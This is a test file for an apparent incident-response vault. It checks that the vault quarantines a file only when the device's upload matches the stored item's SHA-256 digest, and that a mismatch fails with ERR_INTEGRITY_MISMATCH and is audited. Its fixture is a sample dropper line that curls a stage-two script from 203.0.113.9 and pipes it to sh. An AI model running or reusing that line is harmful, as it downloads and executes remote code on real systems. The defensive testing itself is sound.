import { createHash } from "node:crypto";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import {
  auditRecords,
  call,
  eventually,
  type Identity,
  identityOf,
  type Served,
  serveVault,
} from "./helpers.js";
import { enrolledDevice, TestAgent } from "./live-helpers.js";

// remediate's quarantine of bytes the case already holds: the vault keeps its item and counts the
// quarantine as stored only when the device's upload hashes to that item's digest. A scripted agent
// speaks for the device (its real key over mutual TLS), so it can claim a digest and send other bytes.
let served: Served;
let bob: Identity;
let device: Identity & { deviceId: string };
let agent: TestAgent;
let sessionId: string;
const CASE = "IR-78";
const TARGET = "/tmp/dropper.bin";
const HELD = Buffer.from("#!/bin/sh\ncurl -s http://203.0.113.9/stage2 | sh\n");
const X = createHash("sha256").update(HELD).digest("hex");

beforeAll(async () => {
  served = await serveVault();
  const issued = await as(served.alice, "POST", "/v1/identities", { name: "bob", kind: "person" });
  bob = identityOf((issued.json() as { identityPem: string }).identityPem);
  device = await enrolledDevice(served, "ws");
  for (const scope of [`device:${device.deviceId}`, `case:${CASE}`]) {
    const granted = await as(served.alice, "POST", "/v1/access/grants", {
      name: "bob",
      role: "responder",
      scope,
    });
    expect(granted.json()).toMatchObject({ status: "done" });
  }
  await as(served.alice, "POST", "/v1/settings/live-response", { enabled: true });
  // the case holds item X before the remediation (a copy bob took earlier)
  const ingested = await call(served.url, `/v1/items?case=${CASE}&name=dropper.bin&kind=file`, {
    method: "POST",
    identity: bob,
    ca: served.ca,
    body: HELD,
    headers: { "content-type": "application/octet-stream" },
  });
  expect(ingested.status, ingested.body.toString()).toBe(201);
  expect((ingested.json() as { id: string }).id).toBe(X);
  agent = new TestAgent(served, device);
  await agent.hello(device.deviceId, null);
  const opened = await as(bob, "POST", "/v1/sessions", { deviceId: device.deviceId, caseId: CASE });
  expect(opened.status, opened.body.toString()).toBe(201);
  sessionId = (opened.json() as { id: string }).id;
}, 120_000);

afterAll(async () => {
  agent?.close();
  await served.cleanup();
});

function as(who: Identity, method: string, path: string, json?: unknown) {
  return call(served.url, path, {
    method,
    identity: who,
    ca: served.ca,
    ...(json === undefined ? {} : { json }),
  });
}

/** bob submits `line`; the scripted device takes the command it is sent. */
async function submit(line: string) {
  const submitted = await as(bob, "POST", `/v1/sessions/${sessionId}/commands`, { line });
  expect(submitted.status, submitted.body.toString()).toBe(202);
  const frame = await agent.next("command");
  agent.send("ack", { cmdId: frame.body.cmdId, accepted: true });
  return frame.body;
}

async function settled(cmdId: string): Promise<Record<string, unknown>> {
  return eventually(async () => {
    const shown = (await as(bob, "GET", `/v1/commands/${cmdId}`)).json() as Record<string, unknown>;
    return ["completed", "failed"].includes(String(shown.status)) ? shown : undefined;
  }, `${cmdId} settled`);
}

/**
 * `remediate file TARGET`, answered by the scripted device: it announces the file as X, uploads `body`
 * to the transfer it is given, and reports the file quarantined and deleted whatever the upload's answer.
 */
async function remediate(body: Buffer) {
  const command = await submit(`remediate file ${TARGET}`);
  const { cmdId, quarantine } = command;
  expect(quarantine?.expected).toEqual([{ path: TARGET, sha256: X, size: HELD.length }]);
  const announced = await as(device, "POST", quarantine?.path ?? "", {
    path: TARGET,
    sha256: X,
    size: HELD.length,
    mode: 0o755,
  });
  expect(announced.status, announced.body.toString()).toBe(201);
  const transfer = announced.json() as { path: string; expectedSha256: string };
  expect(transfer.expectedSha256).toBe(X);
  const put = await call(served.url, transfer.path, {
    method: "PUT",
    identity: device,
    ca: served.ca,
    body,
    headers: { "content-type": "application/octet-stream", "content-length": String(body.length) },
  });
  const step = { path: TARGET, sha256: X, size: HELD.length, mode: 0o755 };
  agent.send("result", {
    cmdId,
    status: "completed",
    rows: 0,
    durationMs: 5,
    data: {
      id: cmdId,
      type: "file",
      target: TARGET,
      steps: [
        { action: "quarantine", outcome: "done", ...step },
        { action: "delete", outcome: "done", path: TARGET },
      ],
    },
  });
  return { put, entry: await settled(cmdId), cmdId };
}

/** Item X as the vault shows it, its bytes, and the vault's own check of them against the log. */
async function itemX() {
  const shown = await as(bob, "GET", `/v1/items/${X}?case=${CASE}`);
  expect(shown.status, shown.body.toString()).toBe(200);
  const content = await as(served.alice, "GET", `/v1/items/${X}/content?case=${CASE}`);
  expect(content.status).toBe(200);
  const checked = await as(served.alice, "POST", `/v1/items/${X}/check?case=${CASE}`);
  expect(checked.status, checked.body.toString()).toBe(200);
  return { record: shown.json(), bytes: content.body, check: checked.json() };
}

async function remediationFacts() {
  return (await auditRecords(served)).filter((r) => r.action === "remediation.recorded");
}

describe("remediate's quarantine of an item the case already holds", () => {
  it("fails with ERR_INTEGRITY_MISMATCH when the device announces X but uploads other bytes, and X stays as it was", async () => {
    const fileinfo = await submit(`fileinfo ${TARGET}`);
    agent.send("result", {
      cmdId: fileinfo.cmdId,
      status: "completed",
      rows: 0,
      durationMs: 3,
      data: { path: TARGET, size: HELD.length, sha256: X, mode: "755" },
    });
    expect((await settled(fileinfo.cmdId)).status).toBe("completed");
    const before = await itemX();
    const other = Buffer.alloc(HELD.length, "A");
    expect(createHash("sha256").update(other).digest("hex")).not.toBe(X);

    const { put, entry, cmdId } = await remediate(other);
    // the device is told its bytes are not X: an honest agent deletes nothing
    expect(put.status).toBeGreaterThanOrEqual(400);
    expect(put.json()).toMatchObject({ code: "ERR_INTEGRITY_MISMATCH" });
    // the device's claim of a completed remediation is not taken
    expect(entry.status).toBe("failed");
    expect(entry.error).toMatchObject({ code: "ERR_INTEGRITY_MISMATCH" });
    expect(entry.itemId).toBeUndefined();
    expect(await itemX()).toEqual(before);
    expect(before.bytes.equals(HELD)).toBe(true);
    expect(await remediationFacts()).toEqual([]);
    const result = (await auditRecords(served)).find(
      (r) => r.action === "live.result" && r.details.cmdId === cmdId,
    );
    expect(result?.details).toMatchObject({ status: "failed", error: "ERR_INTEGRITY_MISMATCH" });
    expect(result?.details.itemId).toBeUndefined();
  }, 120_000);

  it("counts the quarantine as stored when the upload hashes to X, and states the remediation with item X", async () => {
    const before = await itemX();
    const { put, entry, cmdId } = await remediate(HELD);
    expect(put.status, put.body.toString()).toBe(201);
    expect(put.json()).toEqual({ itemId: X });
    expect(entry.status).toBe("completed");
    expect(entry.itemId).toBe(X);
    expect(await itemX()).toEqual(before);
    const facts = await remediationFacts();
    expect(facts).toHaveLength(1);
    expect(facts[0]?.details).toMatchObject({
      remediationId: cmdId,
      cmdId,
      caseId: CASE,
      itemIds: [X],
      items: [{ itemId: X, path: TARGET, sha256: X, size: HELD.length, mode: 0o755 }],
    });
  }, 120_000);
});
